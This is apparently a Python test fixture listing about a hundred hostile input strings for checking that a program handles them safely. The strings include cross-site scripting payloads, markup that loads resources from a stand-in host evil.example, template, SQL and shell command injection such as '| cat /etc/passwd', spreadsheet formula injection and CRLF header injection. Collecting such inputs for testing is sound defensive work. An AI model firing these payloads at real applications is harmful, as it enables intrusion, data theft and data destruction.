"""Texts that attack as markup, script, link, template or command."""

from __future__ import annotations

_MARKUP = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<math><mtext></mtext><script>alert(1)</script></math>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(//evil.example)}</style>
<form action=//evil.example><button>x</button></form>
<a href=javascript:alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext>
<xmp><script>alert(1)</script></xmp>
<!--<script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</pre><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
</table><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover=alert(1) x="
' onmouseover=alert(1) x='
` onmouseover=alert(1)
" autofocus onfocus="alert(1)
"><img src=x onerror=alert(1)>
'"><svg/onload=alert(1)>
"></time><script>alert(1)</script>
" style="position:fixed;top:0
x" formaction="//evil.example
<button form=x formaction=//evil.example>x
<input type=image src=x formaction=//evil.example>
<isindex action=javascript:alert(1)>
<dialog open>x</dialog>
<portal src=//evil.example>
<applet code=x>
<frameset onload=alert(1)>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example>
<xss style="xss:expression(alert(1))">
<div style="background:url(javascript:alert(1))">
<x contenteditable onblur=alert(1)>x
<img/src/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
\\u003cscript\\u003ealert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
https://evil.example/
//evil.example/
{{7*7}}
{{ config.items() }}
{{''.__class__.__mro__[1].__subclasses__()}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{# comment #}
${7*7}
#{7*7}
<%= 7*7 %>
'; DROP TABLE tasks; --
' OR '1'='1
" OR 1=1 --
%' AND 1=0 UNION SELECT 1 --
$(touch /tmp/owned)
`id`
| cat /etc/passwd
=cmd|' /C calc'!A0
""".strip().splitlines()

ATTACKS = [
    *_MARKUP,
    "\u202etxt.exe",
    "\u2028alert(1)",
    "\x1b[31mred\x1b]0;title\x07",
    "line\r\nSet-Cookie: owned=1",
    "😀" * 50,
]
"""A hundred of them, each at home in some other program."""
